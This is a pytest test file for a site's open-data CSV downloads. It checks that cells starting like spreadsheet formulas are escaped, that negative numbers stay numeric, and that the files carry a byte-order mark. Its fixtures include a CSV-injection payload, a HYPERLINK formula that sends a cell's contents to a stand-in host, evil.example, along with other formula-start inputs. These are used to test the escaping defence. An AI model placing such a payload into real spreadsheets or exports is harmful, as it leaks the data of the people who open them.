"""The open data downloads as a user opens them: CSV files read with the csv module."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from kfh_site.downloads import FORMULA_STARTS, Column, Table, csv_bytes, formula_safe

from conftest import ROWS_2023, ROWS_2024, make_project, run_cli, write_csv

HOSTILE_NAMES = {
    "HYP": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "PLS": "+44 Trust",
    "MIN": "-2+3 Trust",
    "ATS": "@SUM(A1:A9)",
    "TAB": "\t=1+1",
}
"""Names (and organisation types) that start like spreadsheet formulas. A leading tab is
trimmed when the return is read; the carriage return is tested on a table directly."""


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small project plus organisations whose name and type start like formulas, one
    of which lost 12.3 qualified WTE and gained staff (negative changes)."""
    root = make_project(tmp_path_factory.mktemp("hostile") / "project")
    extra_2024, extra_2023 = [], []
    for code, name in HOSTILE_NAMES.items():
        extra_2024.append([code, name, "London", name, "2024/25", "5000", "1", "", "", "",
                           "", "", "", "", "", "", "", "", ""])
        extra_2023.append([code, name, "London", name, "2023/24", "4000", "13.3", "", "", "",
                           "", "", "", "", "", "", "", "", ""])
    write_csv(root / "data" / "returns" / "2024-25.csv", ROWS_2024 + extra_2024)
    write_csv(root / "data" / "returns" / "2023-24.csv", ROWS_2023 + extra_2023)
    assert run_cli(root, "build", "--no-pdf") == 0
    return root / "build"


def test_no_csv_cell_starts_like_a_formula_and_negative_numbers_stay_numbers(hostile_site):
    rows = read_csv(hostile_site / "downloads" / "figures.csv")
    header = rows[0]
    for row in rows:
        for column, cell in zip(header, row):
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (column, cell)
    by_code = {row[0]: dict(zip(header, row)) for row in rows[1:] if row[4] == "2024/25"}
    assert by_code["HYP"]["org_name"] == "'" + HOSTILE_NAMES["HYP"]
    assert by_code["HYP"]["org_type"] == "'" + HOSTILE_NAMES["HYP"]
    for code in ("PLS", "MIN", "ATS"):
        assert by_code[code]["org_name"] == "'" + HOSTILE_NAMES[code]
    # Numbers are never touched: the loss of 12.3 qualified WTE stays a negative number.
    assert by_code["HYP"]["qualified_lks_wte_change"] == "-12.30"
    for row in read_csv(hostile_site / "downloads" / "areas.csv"):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), cell


def test_every_formula_start_is_neutralised_and_a_carriage_return_never_splits_a_row():
    column = Column("name", "Name", "A name.", lambda text: text)
    numbers = Column("change", "Change", "A change.", lambda value: value, 1)
    names = ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', "Plain name", "O'Neill =1", "Two\rlines"]
    data = Table("t", (column,), [(name,) for name in names])
    rows = list(csv.reader(io.StringIO(csv_bytes(data).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + n for n in names[:6]] + names[6:]
    negative = Table("t", (numbers,), [(-12.3,), (None,)])
    assert csv_bytes(negative).decode("utf-8-sig").splitlines() == ["change", "-12.3", '""']
    assert formula_safe("-") == "'-" and formula_safe("") == ""


def test_csv_files_are_utf8_with_a_byte_order_mark_and_give_status_in_words(small_site):
    for name in ("figures.csv", "areas.csv"):
        raw = (small_site / "downloads" / name).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1, name
    rows = read_csv(small_site / "downloads" / "figures.csv")
    header = rows[0]
    assert header.index("status_label") == header.index("status") + 1
    assert header.index("previous_status_label") == header.index("previous_status") + 1
    delta = next(dict(zip(header, r)) for r in rows if r[0] == "DDD")
    assert (delta["status"], delta["status_label"]) == ("no-qualified-staff", "No qualified staff reported")
    areas = read_csv(small_site / "downloads" / "areas.csv")
    england = dict(zip(areas[0], areas[1]))
    assert england["status_label"] == "Better than the 2019 average"


def test_the_data_page_says_how_the_files_are_written(small_site):
    from test_site import text_of

    text = text_of(small_site / "data.html")
    assert "UTF-8 text with a byte-order mark (BOM)" in text
    assert "never runs it as a formula" in text and "a change of -12.3 stays -12.3" in text


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
